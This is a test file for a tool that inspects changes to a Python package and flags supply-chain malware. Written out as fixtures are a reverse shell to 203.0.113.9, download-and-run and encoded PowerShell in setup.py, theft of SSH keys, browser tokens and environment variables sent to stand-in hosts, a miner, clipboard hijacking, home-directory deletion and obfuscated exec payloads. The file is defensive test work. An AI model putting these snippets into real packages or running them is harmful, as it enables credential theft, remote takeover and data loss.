import type { Signal } from "@packhouse/contract/review/inspection";
import { expect, test } from "vitest";
import { inspectProject } from "./testing/inspect-sources.ts";

/** A client of a service, as it was accepted: it reaches the network and starts a program already. */
const base = {
  "setup.py": 'from setuptools import setup\nsetup(name="orchard", packages=["orchard"])\n',
  "orchard/__init__.py": '"""Rows of trees."""\nfrom .client import Client\n',
  "orchard/client.py":
    'import os\nimport subprocess\nimport requests\n\nclass Client:\n    def __init__(self, key=None):\n        self.key = key or os.environ.get("ORCHARD_API_KEY")\n\n    def rows(self, url):\n        return requests.get(url, headers={"key": self.key}).json()\n\n    def open(self, path):\n        subprocess.run(["gnuplot", path])\n',
};

const keyOf = ({ id, subject, excerpt }: Signal): string => JSON.stringify([id, subject, excerpt]);

function alarms(changes: Readonly<Record<string, string>>): Signal[] {
  const known = new Set(inspectProject({ files: base }).signals.map(keyOf));
  const { signals } = inspectProject({ files: { ...base, ...changes } });
  return signals.filter(
    (signal) => !known.has(keyOf(signal)) && (signal.level === "warning" || signal.level === "danger"),
  );
}

const appended = (path: keyof typeof base, text: string) => ({ [path]: `${base[path]}${text}` });
const inMethod = (text: string) =>
  appended("orchard/client.py", `\n    def more(self):\n${text.replace(/^/gm, "        ")}\n`);

test.each([
  [
    "setup.py that downloads and runs",
    {
      "setup.py": `import urllib.request, os\nurllib.request.urlretrieve("http://a.example/x", "/tmp/x")\nos.system("chmod +x /tmp/x && /tmp/x")\n${base["setup.py"]}`,
    },
  ],
  [
    "setup.py with an encoded command",
    {
      "setup.py": `import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABvAHcA', shell=True)\n${base["setup.py"]}`,
    },
  ],
  [
    "an install command that runs something",
    {
      "setup.py":
        'from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\n        import subprocess\n        subprocess.call(["orchard"])\nsetup(name="orchard", packages=["orchard"], cmdclass={"install": Post})\n',
    },
  ],
  [
    "setup.py that reports the host",
    {
      "setup.py": `import socket, getpass, os, requests\nrequests.get("http://x.oastify.example/", params={"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()})\n${base["setup.py"]}`,
    },
  ],
  [
    "setup.py that imports a module that does",
    { "setup.py": `import build_tools\n${base["setup.py"]}`, "build_tools.py": "import os\nos.system('x')\n" },
  ],
  [
    "code far to the right of a line",
    appended("orchard/__init__.py", `${" ".repeat(500)};exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n`),
  ],
  [
    "code in several layers",
    appended(
      "orchard/__init__.py",
      "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=x'))\n",
    ),
  ],
  [
    "code loaded with marshal",
    appended("orchard/__init__.py", "import marshal as m, types as t\nt.FunctionType(m.loads(b'x'), globals())()\n"),
  ],
  ["code fetched when a method is called", inMethod("exec(requests.get(self.url).text)")],
  [
    "a token of a browser",
    inMethod("path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nreturn open(path).read()"),
  ],
  ["keys of the user", inMethod("return open(os.path.expanduser('~/.ssh/id_rsa')).read()")],
  ["the environment in an address", inMethod("requests.get('https://collect.example/' + str(dict(os.environ)))")],
  [
    "the environment in a text",
    inMethod(
      "import json, base64\nbody = base64.b64encode(json.dumps(dict(os.environ)).encode())\nrequests.post(self.url, body)",
    ),
  ],
  ["keys of a cloud", inMethod("requests.post(self.url, {'k': os.environ.get('AWS_SECRET_ACCESS_KEY')})")],
  ["a message to a chat", inMethod("requests.post('https://api.telegram.org/bot1:x/sendMessage', {})")],
  ["names in a look-up of an address", inMethod("import socket\nsocket.gethostbyname(f'{self.key}.collect.example')")],
  [
    "a miner",
    inMethod(
      "open('/tmp/m', 'wb').write(requests.get(URL).content)\nos.chmod('/tmp/m', 0o777)\nsubprocess.Popen(['/tmp/m', '-o', 'pool.example:8080'])",
    ),
  ],
  [
    "a shell for someone else",
    inMethod(
      "import socket, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')",
    ),
  ],
  ["code in memory", inMethod("import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)")],
  [
    "a clipboard that is watched",
    inMethod("import pyperclip\nif pyperclip.paste().startswith('0x'): pyperclip.copy(self.key)"),
  ],
  ["a start with the shell", inMethod("open(os.path.expanduser('~/.bashrc'), 'a').write('orchard &')")],
  [
    "files deleted on import",
    appended("orchard/__init__.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"),
  ],
  ["an import that never ends", appended("orchard/__init__.py", "while True:\n    print('for a cause')\n")],
  [
    "a call on import by way of another module",
    {
      ...appended("orchard/__init__.py", "from .client import ping\nping()\n"),
      ...appended("orchard/client.py", "\ndef ping():\n    requests.get(URL)\n"),
    },
  ],
  [
    "a thread on import",
    appended(
      "orchard/client.py",
      "\ndef _run():\n    requests.post(URL)\nimport threading\nthreading.Thread(target=_run).start()\n",
    ),
  ],
  ["a file that Python reads at its start", { "orchard.pth": "import orchard.client; orchard.client.run()\n" }],
  ["a customization of the site", { "sitecustomize.py": "import os\n" }],
  [
    "a module of another project",
    {
      "setup.py": 'from setuptools import setup\nsetup(packages=["orchard", "requests"])\n',
      "requests/__init__.py": "def get(u): pass\n",
    },
  ],
  [
    "a command of another project",
    {
      "setup.py":
        'from setuptools import setup\nsetup(packages=["orchard"], entry_points={"console_scripts": ["pip = orchard:main"]})\n',
    },
  ],
  [
    "a backend of its own",
    {
      "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["."]\n',
      "hook.py": "def build_wheel(*a): pass\n",
    },
  ],
  ["names put together from pieces", inMethod("getattr(__import__('o' + 's'), ''.join(['sys', 'tem']))(self.key)")],
  ["a name in hexadecimal", inMethod("getattr(__import__(bytes.fromhex('6f73').decode()), 'system')('x')")],
])("%s alarms", (_what, changes) => {
  expect(alarms(changes)).not.toEqual([]);
});

test.each([
  ["another request", inMethod("return requests.post(self.address('rows'), json={'a': 1}).json()")],
  ["another program", inMethod("return subprocess.check_output(['gnuplot', '--version'])")],
  ["a setting", inMethod("return os.environ.get('ORCHARD_COLOR', 'auto')")],
  ["a folder of its own", inMethod("return os.path.expanduser('~/.cache/orchard')")],
  [
    "code that moved",
    { "orchard/http.py": base["orchard/client.py"], "orchard/client.py": "from .http import Client\n" },
  ],
  [
    "a copy of the environment for a program",
    inMethod("env = os.environ.copy()\nenv['LC_ALL'] = 'C'\nsubprocess.run(['gnuplot'], env=env)"),
  ],
  [
    "data that is decoded",
    inMethod("import base64, json, zlib\nreturn json.loads(zlib.decompress(base64.b64decode(self.key)))"),
  ],
  [
    "a check of the version",
    appended("orchard/__init__.py", "import sys\nif sys.version_info < (3, 9):\n    sys.exit('too old')\n"),
  ],
  ["a main program", appended("orchard/client.py", "\nif __name__ == '__main__':\n    subprocess.run(['gnuplot'])\n")],
  [
    "tests and examples",
    {
      "tests/test_client.py": "import subprocess, os\nos.system('curl http://a.example')\n",
      "tests_core/test_client.py": "import subprocess, os\nos.system('curl http://a.example')\n",
      "t/smoke/conftest.py": "import urllib.request\nurllib.request.urlopen('http://a.example')\n",
      "docs/conf.py": "exec(open('x').read())\n",
    },
  ],
  ["setup.py that reads a version", { "setup.py": `exec(open("orchard/version.py").read())\n${base["setup.py"]}` }],
])("%s does not alarm", (_what, changes) => {
  expect(alarms(changes)).toEqual([]);
});
